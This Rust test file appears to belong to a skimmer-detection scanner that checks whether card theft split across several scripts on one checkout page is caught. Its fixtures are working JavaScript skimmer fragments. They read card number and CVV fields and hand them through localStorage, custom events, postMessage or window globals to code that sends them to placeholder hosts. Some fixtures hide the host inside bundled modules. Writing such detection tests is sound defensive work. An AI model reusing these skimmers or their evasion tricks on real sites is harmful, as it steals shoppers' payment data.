//! Data handed off before it is sent (issue 9, class 3): events, channels, ports, messages to
//! itself, promises and microtasks, IndexedDB, cookies, DOM staging — within one script, and
//! across the scripts of one page (they share one window): each script exports its pipes and
//! the page-level join connects them. An event bus that keeps its handlers in a list or a
//! `Map` and calls them through a name (`forEach(f => f(...args))`, `fn.apply(null, args)`)
//! passes its arguments to those handlers. A listener that sends somewhere only a run
//! resolves (a bundle's module config) is run on the stub page with its event's `detail`
//! marked, and the mark's destination is the host the join names.

mod common;
mod engine_support;
use engine_support::{check_dir, engine, job};
use skimscan::finding::Severity;

#[test]
fn hand_offs_within_a_script_are_followed() {
    let (skim, legit) = check_dir("handoff");
    assert!(
        skim >= 10 && legit >= 3,
        "{skim} skimmers, {legit} legitimate"
    );
}

const WRITER: &str = "document.querySelector('#co-payment-form').addEventListener('submit', function () {\n  localStorage.setItem('mage-cache-sessid-ext', btoa(document.getElementById('cc_number').value));\n});";
const SENDER: &str = "(function () {\n  var v = localStorage.getItem('mage-cache-sessid-ext');\n  if (v) { navigator.sendBeacon('https://mage-storage-sync.example/s', v); }\n})();";

#[test]
fn storage_written_by_one_script_and_sent_by_another_is_joined() {
    let engine = engine();
    let r = engine.analyse_batch(vec![job("writer.js", WRITER), job("sender.js", SENDER)]);
    // Alone, neither script is critical: the writer sends nothing, the sender reads no card.
    for a in &r {
        assert!(
            a.findings.iter().all(|f| f.severity < Severity::Critical),
            "{:?}",
            a.findings
        );
    }
    let joined = engine.join_pipes(
        "https://www.shop.example/checkout/",
        &[("writer.js", &r[0]), ("sender.js", &r[1])],
    );
    assert_eq!(joined.len(), 1, "{joined:?}");
    let f = &joined[0];
    assert_eq!(f.rule, "payment-data-exfiltration");
    assert_eq!(f.severity, Severity::Critical);
    assert_eq!(f.hosts, vec!["mage-storage-sync.example".to_string()]);
    assert_eq!(f.script.as_deref(), Some("sender.js"));
    assert!(f.message.contains("writer.js"), "{}", f.message);
    // A different key is a different pipe.
    let other = SENDER.replace("mage-cache-sessid-ext", "recently_viewed");
    let r2 = engine.analyse_batch(vec![job("writer.js", WRITER), job("other.js", &other)]);
    assert!(
        engine
            .join_pipes("p", &[("writer.js", &r2[0]), ("other.js", &r2[1])])
            .is_empty()
    );
}

#[test]
fn events_between_scripts_are_joined() {
    let engine = engine();
    let a = "document.getElementById('pay').onclick = function () {\n  window.dispatchEvent(new CustomEvent('checkout:step', { detail: { n: document.getElementById('cc_number').value } }));\n};";
    let b = "window.addEventListener('checkout:step', function (e) {\n  fetch('https://step-metrics-cdn.example/e', { method: 'POST', body: JSON.stringify(e.detail) });\n});";
    let r = engine.analyse_batch(vec![job("a.js", a), job("b.js", b)]);
    let joined = engine.join_pipes("p", &[("a.js", &r[0]), ("b.js", &r[1])]);
    assert!(
        joined
            .iter()
            .any(|f| f.hosts == vec!["step-metrics-cdn.example".to_string()]),
        "{joined:?}"
    );
}

/// A bundle whose module runtime keeps the collector's address in another module
/// (`__req(1).url`): statically the listener sends to an unknown place; a run on the stub page
/// fires its event with a marked `detail` and sees where the mark went. Joined with the
/// script that puts the card into the event, the host is named; a cart event with no card
/// data in it, relayed the same way, stays quiet.
#[test]
fn an_event_relayed_by_a_bundle_is_joined_with_the_host_a_run_resolves() {
    let engine = engine();
    let bundle = "(function (modules) {\n  var cache = {};\n  function req(id) { if (cache[id]) return cache[id].exports; var m = cache[id] = { exports: {} }; modules[id].call(m.exports, m, m.exports, req); return m.exports; }\n  req(2);\n})({\n  1: function (module) { var p = ['https:', '', 'in.bundle-metrics-cdn.example', 'e']; module.exports = { url: p.join('/') }; },\n  2: function (module, exports, req) {\n    var cfg = req(1);\n    document.addEventListener('checkout:ready', function (e) { fetch(cfg.url + '?t=' + Date.now(), { method: 'POST', body: JSON.stringify({ d: e.detail }), keepalive: true }); });\n  }\n});";
    let writer = "document.getElementById('cc_cid').addEventListener('blur', function () {\n  document.dispatchEvent(new CustomEvent('checkout:ready', { detail: { pan: document.getElementById('cc_number').value, cvv: document.getElementById('cc_cid').value } }));\n});";
    let cart = "document.querySelector('.qty').addEventListener('change', function (e) {\n  document.dispatchEvent(new CustomEvent('checkout:ready', { detail: { qty: e.target.value.length > 3 ? 0 : 1, sku: 'SKU-1' } }));\n});";
    let r = engine.analyse_batch(vec![
        job("writer.js", writer),
        job("bundle.js", bundle),
        job("cart.js", cart),
    ]);
    let joined = engine.join_pipes("p", &[("writer.js", &r[0]), ("bundle.js", &r[1])]);
    assert!(
        joined.iter().any(|f| f.severity == Severity::Critical
            && f.hosts == vec!["in.bundle-metrics-cdn.example".to_string()]
            && f.script.as_deref() == Some("bundle.js")),
        "{joined:?}"
    );
    let quiet = engine.join_pipes("p", &[("cart.js", &r[2]), ("bundle.js", &r[1])]);
    assert!(
        quiet.iter().all(|f| f.severity < Severity::High),
        "{quiet:?}"
    );
}

/// The same relay for a posted message: one script posts the card to its own window, a
/// bundle's listener sends `e.data` to an address kept in another module.
#[test]
fn a_message_relayed_by_a_bundle_is_joined_with_the_host_a_run_resolves() {
    let engine = engine();
    let bundle = "(function (modules) {\n  var cache = {};\n  function req(id) { if (cache[id]) return cache[id].exports; var m = cache[id] = { exports: {} }; modules[id].call(m.exports, m, m.exports, req); return m.exports; }\n  req(2);\n})({\n  1: function (module) { module.exports = { host: ['relay', 'msg-bridge-cdn', 'example'].join('.') }; },\n  2: function (module, exports, req) {\n    var cfg = req(1);\n    window.addEventListener('message', function (e) { navigator.sendBeacon('https://' + cfg.host + '/m', JSON.stringify(e.data)); });\n  }\n});";
    let writer = "document.getElementById('cc_cid').addEventListener('change', function () {\n  window.postMessage({ n: document.getElementById('cc_number').value, c: document.getElementById('cc_cid').value }, '*');\n});";
    let r = engine.analyse_batch(vec![job("writer.js", writer), job("bundle.js", bundle)]);
    let joined = engine.join_pipes("p", &[("writer.js", &r[0]), ("bundle.js", &r[1])]);
    assert!(
        joined.iter().any(|f| f.severity == Severity::Critical
            && f.hosts == vec!["relay.msg-bridge-cdn.example".to_string()]),
        "{joined:?}"
    );
}

/// A window property two scripts share: one keeps the typed fields in an object it also
/// stores on `window` (`var draft = w.__draft = w.__draft || {…}`), the other reads
/// `window.__draft` and sends it. A global the reader only reads for settings stays quiet.
#[test]
fn a_window_global_written_by_one_script_and_sent_by_another_is_joined() {
    let engine = engine();
    let a = "(function (w) {\n  var draft = w.__draft = w.__draft || { f: {} };\n  w.document.addEventListener('change', function (e) { draft.f[e.target.name] = e.target.value; }, true);\n})(window);";
    let b = "(function (w) {\n  document.addEventListener('submit', function () {\n    var d = w.__draft && w.__draft.f;\n    if (d) fetch('https://draft-sync-cdn.example/d', { method: 'POST', body: JSON.stringify(d) });\n  }, true);\n})(window);";
    let r = engine.analyse_batch(vec![job("a.js", a), job("b.js", b)]);
    let joined = engine.join_pipes("p", &[("a.js", &r[0]), ("b.js", &r[1])]);
    assert!(
        joined
            .iter()
            .any(|f| f.hosts == vec!["draft-sync-cdn.example".to_string()]),
        "{joined:?}"
    );
    let settings = "window.__draft = { theme: 'dark' };";
    let r = engine.analyse_batch(vec![job("s.js", settings), job("b.js", b)]);
    assert!(
        engine
            .join_pipes("p", &[("s.js", &r[0]), ("b.js", &r[1])])
            .is_empty()
    );
}

/// The whole pipeline: a checkout page whose two inline scripts hand card data through
/// sessionStorage is reported critical with exit code 1.
#[test]
fn a_page_with_a_split_skimmer_is_reported_by_the_scan() {
    let dir = tempfile::tempdir().unwrap();
    let page = format!(
        "<!doctype html><html><head><title>Checkout</title></head><body>\n<form id=\"co-payment-form\" action=\"/checkout/pay\">\n<input id=\"cc_number\" name=\"payment[cc_number]\" autocomplete=\"cc-number\">\n<input id=\"cc_cid\" name=\"payment[cc_cid]\" autocomplete=\"cc-csc\">\n<button>Pay</button></form>\n<script>{}</script>\n<script>{}</script>\n</body></html>",
        WRITER.replace("localStorage", "sessionStorage"),
        SENDER.replace("localStorage", "sessionStorage")
    );
    let path = dir.path().join("checkout.html");
    std::fs::write(&path, page).unwrap();
    let (code, report, stderr) = common::scan_json(&[path.to_str().unwrap(), "--fail-on", "high"]);
    assert_eq!(code, 1, "{stderr}");
    let findings = report["findings"].as_array().expect("findings");
    assert!(
        findings
            .iter()
            .any(|f| f["rule"] == "payment-data-exfiltration"
                && f["hosts"][0] == "mage-storage-sync.example"),
        "{report:#}"
    );
}
